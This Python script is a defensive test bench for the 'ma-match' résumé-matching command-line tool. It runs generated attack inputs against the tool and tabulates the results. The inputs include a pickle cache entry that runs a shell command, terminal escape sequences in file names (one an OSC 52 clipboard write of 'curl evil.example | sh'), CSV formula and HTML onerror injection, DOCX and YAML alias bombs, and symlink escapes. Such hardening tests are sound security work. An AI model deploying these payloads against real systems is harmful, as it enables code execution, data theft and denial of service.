"""The attacks of issue 13 ("Trust"), each made into a temporary folder and run against one
`ma-match` executable with a time limit and a memory cap, as a Markdown table:

    python bench/attacks.py --exe .venv/bin/ma-match [--timeout 60] [--memory-gb 4] [--only WORD ...]

Run it once with the executable of a checkout before the trust work and once with this one to
compare the two.  Each row: the attack, the command (shell form; files live in the temporary
folder), the exit code ("timeout >60 s" when killed), wall seconds, the peak resident memory of
the process in MB (its own, not its workers'), the first line it wrote on stderr, and what was
observed where the exit code alone does not show it (code run from a cache, raw escape sequences
in the output, formula cells, the size of the output...).

Every run is bounded: its own session (killed whole at the time limit) and an address-space cap
(RLIMIT_AS), so an attack that hangs or eats memory cannot take the machine with it.  Inputs are
generated here; nothing large is kept.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import csv
import io
import json
import os
import pickle
import re
import resource
import shlex
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
POSTING = (ROOT / "examples" / "posting_family_medicine.txt").read_text(encoding="utf-8")
RESUME = (ROOT / "examples" / "resume_dual.txt").read_text(encoding="utf-8")
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
ESC_ATTACKS = {
    "title": "\x1b]0;PWNED\x07",
    "clear": "\x1b[2J\x1b[H",
    "osc52": "\x1b]52;c;" + base64.urlsafe_b64encode(b"curl evil.example | sh").decode() + "\x07",
}
# the sequences planted in file names, found raw in an output (colour and rich's own progress bar
# are not counted)
RAW_ESCAPE = re.compile(r"\x1b\]0;PWNED|\x1b\[2J|\x1b\]52;")
HYPERLINK = re.compile(r"\x1b\]8;")


@dataclass
class Run:
    exit: str
    seconds: float
    peak_mb: float
    stdout: bytes
    stderr: bytes
    left: int = 0  # processes of its session still alive after it exited (workers left behind)


@dataclass
class Attack:
    name: str
    command: str  # shown in the table
    args: list[str]
    env: dict[str, str] = field(default_factory=dict)
    stdin: bytes | None = None
    cwd: str = ""  # a folder under the temporary one to run in
    observe: Callable[[Run], str] | None = None
    runner: Callable[[Attack], Run] | None = None  # for signals and pipes


class Bench:
    def __init__(self, exe: str, folder: Path, timeout: float, memory_gb: float):
        self.exe = exe
        self.folder = folder
        self.timeout = timeout
        self.memory = int(memory_gb * 1024**3)
        self.python = str(Path(exe).parent / "python")

    # --- running, bounded ------------------------------------------------------------------

    def _limits(self) -> None:
        resource.setrlimit(resource.RLIMIT_AS, (self.memory, self.memory))

    def start(self, attack: Attack) -> tuple[subprocess.Popen[bytes], Path, Path]:
        out = self.folder / "stdout"
        err = self.folder / "stderr"
        env = {**os.environ, **attack.env}
        env.pop("NO_COLOR", None)
        env.setdefault("MA_MATCH_CACHE_DIR", "")
        with out.open("wb") as stdout, err.open("wb") as stderr:
            process = subprocess.Popen(
                [self.exe if a == "EXE" else a for a in attack.args],
                cwd=self.folder / attack.cwd,
                stdin=subprocess.PIPE if attack.stdin is not None else subprocess.DEVNULL,
                stdout=stdout,
                stderr=stderr,
                env=env,
                start_new_session=True,
                preexec_fn=self._limits,
            )
        if attack.stdin is not None:
            assert process.stdin is not None
            with contextlib.suppress(BrokenPipeError):
                process.stdin.write(attack.stdin)
            process.stdin.close()
        return process, out, err

    def finish(self, process: subprocess.Popen[bytes], out: Path, err: Path, started: float) -> Run:
        deadline = started + self.timeout
        status = None
        usage = None
        while time.monotonic() < deadline:
            pid, status, usage = os.wait4(process.pid, os.WNOHANG)
            if pid:
                break
            time.sleep(0.02)
        else:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            _, status, usage = os.wait4(process.pid, 0)
            status = None
        process.returncode = 0  # reaped by wait4 above
        seconds = time.monotonic() - started
        time.sleep(0.5)
        left = _session_members(process.pid)
        with contextlib.suppress(ProcessLookupError):  # workers left behind
            os.killpg(process.pid, signal.SIGKILL)
        if status is None:
            code = f"timeout >{self.timeout:.0f} s"
        elif os.WIFSIGNALED(status):
            code = f"killed by {signal.Signals(os.WTERMSIG(status)).name}"
        else:
            code = str(os.WEXITSTATUS(status))
        return Run(
            code,
            seconds,
            usage.ru_maxrss / 1024 if usage else 0.0,
            out.read_bytes(),
            err.read_bytes(),
            left,
        )

    def run(self, attack: Attack) -> Run:
        if attack.runner is not None:
            return attack.runner(attack)
        started = time.monotonic()
        process, out, err = self.start(attack)
        return self.finish(process, out, err, started)

    # --- files -------------------------------------------------------------------------------

    def file(self, name: str | bytes, data: bytes | str) -> Path:
        path = Path(os.fsdecode(os.path.join(os.fsencode(self.folder), os.fsencode(name))))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    def dir(self, name: str) -> Path:
        path = self.folder / name
        path.mkdir(parents=True, exist_ok=True)
        return path

    def taxonomy_text(self) -> str:
        """The taxonomy the executable ships (as the package finds it)."""
        code = (
            "from importlib import resources; from pathlib import Path; import ma_match, sys\n"
            "r = resources.files('ma_match').joinpath('data/taxonomy.yaml')\n"
            "p = Path(str(r)) if r.is_file() else Path(ma_match.__file__).resolve().parents[2] / 'data' / 'taxonomy.yaml'\n"
            "sys.stdout.write(str(p))"
        )
        path = subprocess.run([self.python, "-c", code], capture_output=True, text=True, check=True)
        return Path(path.stdout).read_text(encoding="utf-8")


def _session_members(session: int) -> int:
    """How many live processes belong to *session* (read from /proc; 0 where there is none)."""
    count = 0
    for entry in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError, IndexError, ValueError):
            fields = entry.read_text().rsplit(")", 1)[1].split()
            if int(fields[3]) == session and fields[0] != "Z":  # fields[3]: the session id
                count += 1
    return count


# --- generators --------------------------------------------------------------------------------


def docx(
    body_xml: str | None = None,
    *,
    stream: Iterator[bytes] | None = None,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """A minimal DOCX; the document part is *body_xml*, or written from *stream* chunk by chunk."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="png" ContentType="image/png"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        head = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}"><w:body>'.encode()
        tail = b"</w:body></w:document>"
        if stream is None:
            archive.writestr("word/document.xml", head + (body_xml or "").encode() + tail)
        else:
            with archive.open("word/document.xml", "w", force_zip64=True) as part:
                part.write(head)
                for chunk in stream:
                    part.write(chunk)
                part.write(tail)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def repeated(unit: bytes, total: int, chunk: int = 1 << 20) -> Iterator[bytes]:
    block = unit * (chunk // len(unit))
    written = 0
    while written < total:
        yield block
        written += len(block)


def one_line(unit: str, size: int) -> bytes:
    return (unit * (size // len(unit) + 1))[:size].encode()


def first_line(data: bytes) -> str:
    for line in data.decode("utf-8", "backslashreplace").splitlines():
        if line.strip():
            return line.strip()
    return ""


def shown(text: str, limit: int = 110) -> str:
    """A table cell: escapes visible, pipes and backticks defused, cut to *limit*."""
    text = text.encode("unicode_escape").decode("ascii") if not text.isprintable() else text
    text = text.replace("|", "\\|").replace("`", "'")
    return text if len(text) <= limit else text[: limit - 1] + "…"


# --- observations ------------------------------------------------------------------------------


def raw_escapes(run: Run) -> str:
    out = run.stdout.decode("utf-8", "replace") + run.stderr.decode("utf-8", "replace")
    found = RAW_ESCAPE.findall(out)
    return (
        f"RAW escape sequences reach the output ({len(found)})"
        if found
        else "no raw escape sequence"
    )


def traceback_or(text: str) -> Callable[[Run], str]:
    def observe(run: Run) -> str:
        if b"Traceback" in run.stderr:
            error = [
                line for line in run.stderr.decode("utf-8", "replace").splitlines() if line.strip()
            ]
            return f"traceback: {error[-1].strip()[:80]}" if error else "traceback"
        return text

    return observe


def output_size(run: Run) -> str:
    size = len(run.stdout)
    shown_size = f"{size / 1e6:.1f} MB" if size >= 1e6 else f"{size / 1e3:.1f} KB"
    return f"stdout {shown_size}" + (" (traceback)" if b"Traceback" in run.stderr else "")


# --- the attacks -------------------------------------------------------------------------------


def attacks(bench: Bench) -> Iterator[Attack]:
    posting = bench.file("posting.txt", POSTING)
    resume = bench.file("resume.txt", RESUME)
    p, r = posting.name, resume.name

    # the start-up cache: filled once by a normal run, then each entry replaced
    def cache_with(name: str, short: str, plant: Callable[[Path], None]) -> Attack:
        cache = bench.dir(f"cache-{short}")
        subprocess.run(
            [bench.exe, "extract", str(resume), "--as", "resume"],
            env={**os.environ, "MA_MATCH_CACHE_DIR": str(cache)},
            capture_output=True,
            timeout=bench.timeout,
            check=False,
        )
        entries = [e for e in cache.iterdir() if e.is_file()]
        for entry in entries:
            plant(entry)
        return Attack(
            f"cache: {name} ({len(entries)} entries planted)",
            f"MA_MATCH_CACHE_DIR=cache-{short} ma-match extract {r} --as resume",
            ["EXE", "extract", r, "--as", "resume"],
            env={"MA_MATCH_CACHE_DIR": str(cache)},
            observe=traceback_or("entries ignored"),
        )

    marker = bench.folder / "PWNED"

    class Planted:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return (os.system, (f"touch {shlex.quote(str(marker))}",))

    def plant_pickle(entry: Path) -> None:
        entry.write_bytes(pickle.dumps(Planted()))

    attack = cache_with("planted pickle (runs `touch PWNED`)", "pickle", plant_pickle)
    attack.observe = lambda run: (
        "CODE RAN (PWNED created)" if marker.exists() else "entry ignored, no code run"
    )
    yield attack

    def plant_fifo(entry: Path) -> None:
        entry.unlink()
        os.mkfifo(entry)

    yield cache_with("FIFO at the entry's path", "fifo", plant_fifo)

    def plant_wrong_type(entry: Path) -> None:
        if entry.suffix == ".json":
            envelope = json.loads(entry.read_text(encoding="utf-8"))
            envelope["value"] = ["not", "a", "taxonomy"]
            entry.write_text(json.dumps(envelope), encoding="utf-8")
        else:
            entry.write_bytes(pickle.dumps(["not", "a", "taxonomy"]))

    attack = cache_with("entry of the wrong type", "type", plant_wrong_type)
    attack.observe = traceback_or("rebuilt, no traceback")
    yield attack

    # file names
    folder = bench.dir("x[")
    bench.file("x[/bold].txt", RESUME)
    yield Attack(
        "directory `x[` holding `bold].txt`",
        f"ma-match rank {p} 'x['",
        ["EXE", "rank", p, str(folder)],
        observe=traceback_or("ranked, name shown as written"),
    )
    links = bench.dir("links")
    bench.file("links/[link=https://evil.example]cv[/link].txt", RESUME)

    def link_seen(run: Run) -> str:
        out = run.stdout.decode("utf-8", "replace")
        if b"Traceback" in run.stderr:
            return traceback_or("")(run)
        if HYPERLINK.search(out):
            return "HIDDEN HYPERLINK built from the name"
        return (
            "name shown as written" if "[link=" in out else "markup eaten: name shown as 'cv.txt'"
        )

    yield Attack(
        "`[link=…]` in a file name (terminal)",
        f"FORCE_COLOR=1 ma-match rank {p} links",
        ["EXE", "rank", p, str(links)],
        env={"FORCE_COLOR": "1", "COLUMNS": "200"},
        observe=link_seen,
    )
    escapes = bench.dir("escapes")
    for label, sequence in ESC_ATTACKS.items():
        bench.file(f"escapes/{label}{sequence}.txt", RESUME)
        bench.file(f"escapes/empty-{label}{sequence}.txt", "")  # unreadable: a skipped line
    for fmt in ("table", "csv"):
        yield Attack(
            f"escape sequences in file names (title, clear, OSC 52), {fmt} + skipped lines",
            f"FORCE_COLOR=1 ma-match rank {p} escapes -f {fmt}",
            ["EXE", "rank", p, str(escapes), "-f", fmt],
            env={"FORCE_COLOR": "1", "COLUMNS": "200"},
            observe=raw_escapes,
        )
    bench.file(
        "markup.txt", "Medical assistant\n- Took vital signs [/x] and ran [bold]EKGs[/bold]\n"
    )
    yield Attack(
        "evidence `[/x]` in extract",
        "ma-match extract markup.txt --as resume",
        ["EXE", "extract", "markup.txt", "--as", "resume"],
        observe=traceback_or("evidence shown as written"),
    )
    bench.dir("formulas")
    formula_names = [
        '=HYPERLINK("http://evil.example","cv").txt',
        "@SUM(1+1).txt",
        "+1+2.txt",
        "-2+3.txt",
    ]
    for name in formula_names:
        bench.file(f"formulas/{name}", RESUME)

    def formula_cells(run: Run) -> str:
        rows = list(csv.reader(io.StringIO(run.stdout.decode("utf-8", "replace"))))
        bad = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]
        return (
            f"FORMULA CELLS: {len(bad)}"
            if bad
            else f"{len(rows) - 1} rows, no cell starts a formula"
        )

    yield Attack(
        "CSV formula cells (=HYPERLINK, @SUM, +1+2)",
        f"cd formulas; ma-match rank -f csv -- ../{p} {' '.join(map(shlex.quote, formula_names))}",
        ["EXE", "rank", "-f", "csv", "--", f"../{p}", *formula_names],
        cwd="formulas",
        observe=formula_cells,
    )
    bench.file(
        "md-resume.txt",
        "Medical assistant\n"
        "- Took vital signs ![img](https://evil.example/t.png) <img src=x onerror=alert(1)>\n",
    )
    bench.file(
        "md-posting.txt",
        "Requirements\n- Vital signs required\n"
        "- EKG required ![img](https://evil.example/p.png) <img src=x onerror=alert(1)>\n",
    )

    def markdown_built(run: Run) -> str:
        # rendered as CommonMark (markdown-it-py, of the test extra), what HTML does it make?
        from markdown_it import MarkdownIt

        page = (
            MarkdownIt("commonmark").enable("table").render(run.stdout.decode("utf-8", "replace"))
        )
        found = [w for w in ('<img src="https://evil', "<img src=x onerror") if w in page]
        return (
            f"LIVE when rendered: {', '.join(found)}" if found else "no image or HTML when rendered"
        )

    yield Attack(
        "Markdown `![img](https://…)` and raw `<img onerror>`",
        "ma-match md-resume.txt md-posting.txt -f markdown",
        ["EXE", "md-resume.txt", "md-posting.txt", "-f", "markdown"],
        observe=markdown_built,
    )
    latin = bench.dir("latin1")
    bench.file(b"latin1/r\xe9sum\xe9.txt", RESUME)
    for fmt in ("table", "json", "csv"):
        yield Attack(
            f"non-UTF-8 file name, rank -f {fmt}",
            f"ma-match rank {p} latin1 -f {fmt}",
            ["EXE", "rank", p, str(latin), "-f", fmt],
            observe=traceback_or("ranked"),
        )

    # long lines and one-line texts: extract
    for label, name, data, kind in (
        ("10 KB of '=' on one line", "eq10k.txt", b"=" * 10_000, "resume"),
        ("700 KB of '=' on one line", "eq700k.txt", b"=" * 700_000, "resume"),
        (
            "one-line text of dates, 168 KB",
            "dates.txt",
            one_line("Jan 2018 - Mar 2020 06/21 - 08/23 ", 168_000),
            "resume",
        ),
        (
            "one-line text of pending phrases, 248 KB",
            "pending.txt",
            one_line("CCMA exam scheduled ", 248_000),
            "resume",
        ),
        (
            "one-line text of posting cue words, 208 KB",
            "cues.txt",
            one_line("required preferred ", 208_000),
            "posting",
        ),
    ):
        bench.file(name, data)
        yield Attack(
            label, f"ma-match extract {name} --as {kind}", ["EXE", "extract", name, "--as", kind]
        )
    yield Attack(
        "one-line text of dates, 168 KB, matched (years of experience)",
        f"ma-match dates.txt {p}",
        ["EXE", "dates.txt", p],
    )

    # DOCX bombs
    for target_kb, paragraphs in ((9.7, 1_700_000), (80, 14_000_000), (359, 63_000_000)):
        data = docx(stream=repeated(b"<w:p/>", paragraphs * 6))
        name = f"empty-{target_kb}k.docx"
        bench.file(name, data)
        yield Attack(
            f"DOCX of empty paragraphs ({len(data) / 1024:.1f} KB, {paragraphs:,} paragraphs)",
            f"ma-match extract {name} --as resume",
            ["EXE", "extract", name, "--as", "resume"],
        )
    span = "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='1000000000'/></w:tcPr><w:p><w:r><w:t>EKG</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    bench.file("span.docx", docx(span))
    yield Attack(
        "DOCX table bomb: gridSpan of a billion",
        "ma-match extract span.docx --as resume",
        ["EXE", "extract", "span.docx", "--as", "resume"],
    )
    merge = (
        "<w:tbl>"
        + "<w:tr><w:tc><w:tcPr><w:vMerge w:val='restart'/></w:tcPr><w:p><w:r><w:t>EKG</w:t></w:r></w:p></w:tc>"
        + "<w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p></w:tc></w:tr>"
        + "<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr>" * 20_000
        + "</w:tbl>"
    )
    bench.file("merge.docx", docx(merge))
    yield Attack(
        "DOCX table bomb: vMerge down 20,000 rows",
        "ma-match extract merge.docx --as resume",
        ["EXE", "extract", "merge.docx", "--as", "resume"],
    )
    text_bomb = docx(
        stream=iter(
            [b"<w:p><w:r><w:t>", *repeated(b"vital signs EKG ", 400 * 2**20), b"</w:t></w:r></w:p>"]
        )
    )
    bench.file("text-bomb.docx", text_bomb)
    yield Attack(
        f"DOCX text bomb ({len(text_bomb) / 1024:.0f} KB inflating to 400 MB of text)",
        "ma-match extract text-bomb.docx --as resume",
        ["EXE", "extract", "text-bomb.docx", "--as", "resume"],
    )
    inflate = docx(
        stream=iter([b"<w:p><w:r><w:t>EKG", *repeated(b" ", 100 * 2**20), b"</w:t></w:r></w:p>"]),
        extra={"word/media/a.png": os.urandom(1_400_000)},
    )
    bench.file("inflate.docx", inflate)
    yield Attack(
        f"DOCX inflate cap message ({len(inflate) / 1e6:.1f} MB file, 100 MB inflated)",
        "ma-match extract inflate.docx --as resume",
        ["EXE", "extract", "inflate.docx", "--as", "resume"],
    )

    # the taxonomy
    # nine levels of nine aliases (387 million strings once expanded), in the shipped taxonomy
    # where a list of words stands, so a loader gets past its keys before it meets them
    levels = ["&a [" + ", ".join(['"lol"'] * 9) + "]"] + [
        f"&{chr(97 + i)} [" + ", ".join([f"*{chr(96 + i)}"] * 9) + "]" for i in range(1, 9)
    ]
    shipped = bench.taxonomy_text()
    words = "  relevant_words: ["
    bomb = (
        shipped.replace(words, words + ", ".join(levels) + ", ", 1)
        if words in shipped
        else "\n".join(f"k{n}: {level}" for n, level in enumerate(levels))
    )
    bench.file("bomb.yaml", bomb)
    yield Attack(
        "YAML alias bomb as --taxonomy (9 levels of 9, in experience.relevant_words)",
        f"ma-match extract {r} --as resume --taxonomy bomb.yaml",
        ["EXE", "extract", r, "--as", "resume", "--taxonomy", "bomb.yaml"],
    )
    yield Attack(
        "--taxonomy /dev/zero",
        f"ma-match extract {r} --as resume --taxonomy /dev/zero",
        ["EXE", "extract", r, "--as", "resume", "--taxonomy", "/dev/zero"],
    )
    os.mkfifo(bench.folder / "fifo.yaml")
    yield Attack(
        "--taxonomy FIFO",
        f"ma-match extract {r} --as resume --taxonomy fifo.yaml",
        ["EXE", "extract", r, "--as", "resume", "--taxonomy", "fifo.yaml"],
    )

    # a 10 MB one-line résumé: how big is the JSON?
    bench.file("ten-mb.txt", one_line("took vital signs and EKGs, scheduled in Epic; ", 9_900_000))
    yield Attack(
        "10 MB one-line text, JSON size",
        "ma-match extract ten-mb.txt --as resume -f json",
        ["EXE", "extract", "ten-mb.txt", "--as", "resume", "-f", "json"],
        observe=output_size,
    )

    # malformed taxonomy values: a run and `taxonomy check` should agree
    edits = {
        "window as a string": ("        window: 4\n", '        window: "4"\n'),
        "window as a list": ("        window: 4\n", "        window: [4]\n"),
        "empty bands": (re.search(r"  bands: .*\n", shipped), "  bands: []\n"),
        "bad token pattern": ('{IS_ALPHA: true, OP: "?"}', '{IS_ALPHA: true, OP: "??"}'),
        "markup in a label": (
            "    label: Vital signs\n",
            '    label: "[bold]Vital signs[/x] \\e]0;T\\a"\n',
        ),
    }
    for label, (old, new) in edits.items():
        old_text = old.group(0) if isinstance(old, re.Match) else old
        if not old_text or old_text not in shipped:
            continue
        name = "bad-" + label.replace(" ", "-") + ".yaml"
        bench.file(name, shipped.replace(old_text, new, 1))
        yield Attack(
            f"taxonomy {label}: a match",
            f"ma-match {r} {p} --taxonomy {name}",
            ["EXE", r, p, "--taxonomy", name],
            observe=traceback_or(""),
        )
        yield Attack(
            f"taxonomy {label}: check",
            f"ma-match taxonomy check {name}",
            ["EXE", "taxonomy", "check", name],
            observe=traceback_or(""),
        )

    # stopping rank --jobs 2
    bench.dir("many")
    for n in range(3000):
        bench.file(
            f"many/r{n:05d}.txt", RESUME.replace("Medical Assistant", f"Medical Assistant {n}", 1)
        )
    for sig, how in (
        (signal.SIGINT, "Ctrl-C (SIGINT to the process group)"),
        (signal.SIGTERM, "SIGTERM to the parent"),
    ):

        def stop(attack: Attack, sig: signal.Signals = sig) -> Run:
            started = time.monotonic()
            process, out, err = bench.start(attack)
            time.sleep(6)
            with contextlib.suppress(ProcessLookupError):
                if sig == signal.SIGINT:
                    os.killpg(process.pid, sig)
                else:
                    os.kill(process.pid, sig)
            run = bench.finish(process, out, err, started)
            return run

        def workers_left(run: Run) -> str:
            tracebacks = run.stderr.count(b"Traceback")
            said = f"{tracebacks} TRACEBACKS" if tracebacks else "no traceback"
            return f"{said}; " + (f"{run.left} PROCESSES LEFT" if run.left else "no process left")

        yield Attack(
            f"{how} during rank --jobs 2",
            f"ma-match rank {p} many --jobs 2 (signal at 6 s)",
            ["EXE", "rank", p, "many", "--jobs", "2"],
            runner=stop,
            observe=workers_left,
        )

    # the API on a lone surrogate
    yield Attack(
        "API: lone surrogate",
        "python -c \"import ma_match; ma_match.match('\\ud800 EKG', 'EKG required')\"",
        [
            bench.python,
            "-c",
            "import ma_match; print(ma_match.match('\\ud800 took vital signs, EKG', 'EKG required').score)",
        ],
        observe=traceback_or("a report"),
    )

    # the walk
    outside = bench.dir("outside")
    bench.file("outside/secret.txt", RESUME.replace("Medical Assistant", "SECRET Assistant"))
    walk = bench.dir("walk")
    bench.file("walk/own.txt", RESUME)
    os.symlink(outside / "secret.txt", walk / "link.txt")

    def followed(run: Run) -> str:
        out = run.stdout.decode("utf-8", "replace")
        return (
            "FOLLOWED the link out of the folder"
            if "link.txt" in out
            else "link not followed" + (", reported" if b"link" in run.stderr else "")
        )

    yield Attack(
        "rank follows a symlink out of the folder",
        f"ma-match rank {p} walk -f csv",
        ["EXE", "rank", p, str(walk), "-f", "csv"],
        observe=followed,
    )
    odd = bench.dir("odd")
    bench.file("odd/own.txt", RESUME)
    os.mkfifo(odd / "pipe.txt")
    os.symlink(bench.folder / "nowhere.txt", odd / "gone.txt")

    def dropped(run: Run) -> str:
        err = run.stderr.decode("utf-8", "replace")
        said = [n for n in ("pipe.txt", "gone.txt") if n in err]
        return f"reported: {', '.join(said)}" if said else "dropped SILENTLY"

    yield Attack(
        "FIFO and dangling link in a ranked folder",
        f"ma-match rank {p} odd",
        ["EXE", "rank", p, str(odd)],
        observe=dropped,
    )

    # usage
    yield Attack(
        "no arguments",
        "ma-match",
        ["EXE"],
        observe=lambda run: (
            "EMPTY message"
            if re.fullmatch(r"(ma-match:)?\s*(\(see .*\))?", first_line(run.stderr))
            else "a message"
        ),
    )
    yield Attack(
        "--min-score 1000",
        f"ma-match {r} {p} --min-score 1000",
        ["EXE", r, p, "--min-score", "1000"],
    )

    def head_one(attack: Attack) -> Run:
        started = time.monotonic()
        err = bench.folder / "stderr"
        env = {**os.environ, "MA_MATCH_CACHE_DIR": ""}
        with err.open("wb") as stderr:
            process = subprocess.Popen(
                [bench.exe, "rank", p, "many", "-f", "csv"],
                cwd=bench.folder,
                stdout=subprocess.PIPE,
                stderr=stderr,
                env=env,
                start_new_session=True,
                preexec_fn=bench._limits,
            )
        assert process.stdout is not None
        first = process.stdout.readline()
        process.stdout.close()  # the reader goes away, as `head -1` does
        out = bench.folder / "stdout"
        out.write_bytes(first)
        return bench.finish(process, out, err, started)

    yield Attack(
        "broken pipe (`rank … | head -1`)",
        f"ma-match rank {p} many -f csv | head -1",
        [],
        runner=head_one,
        observe=traceback_or("no traceback"),
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--exe", required=True, help="the ma-match executable to attack")
    parser.add_argument(
        "--timeout", type=float, default=60.0, help="seconds before a run is killed"
    )
    parser.add_argument("--memory-gb", type=float, default=4.0, help="address-space cap of a run")
    parser.add_argument(
        "--only", nargs="*", help="run only attacks whose name holds one of these words"
    )
    args = parser.parse_args(argv)
    exe = str(Path(args.exe).resolve()) if os.sep in args.exe else args.exe
    print(
        f"attacks on `{shlex.quote(args.exe)}`; time limit {args.timeout:.0f} s, memory cap {args.memory_gb:g} GB\n"
    )
    print("| attack | command | exit | seconds | peak MB | first stderr line | observed |")
    print("|---|---|---|---:|---:|---|---|")
    with tempfile.TemporaryDirectory(prefix="ma-match-attacks-") as folder:
        bench = Bench(exe, Path(folder), args.timeout, args.memory_gb)
        for attack in attacks(bench):
            if args.only and not any(w.lower() in attack.name.lower() for w in args.only):
                continue
            run = bench.run(attack)
            observed = attack.observe(run) if attack.observe else ""
            print(
                f"| {shown(attack.name)} | `{shown(attack.command, 90)}` | {run.exit} | {run.seconds:.1f} | "
                f"{run.peak_mb:.0f} | {shown(first_line(run.stderr))} | {shown(observed)} |",
                flush=True,
            )
    return 0


if __name__ == "__main__":
    sys.exit(main())
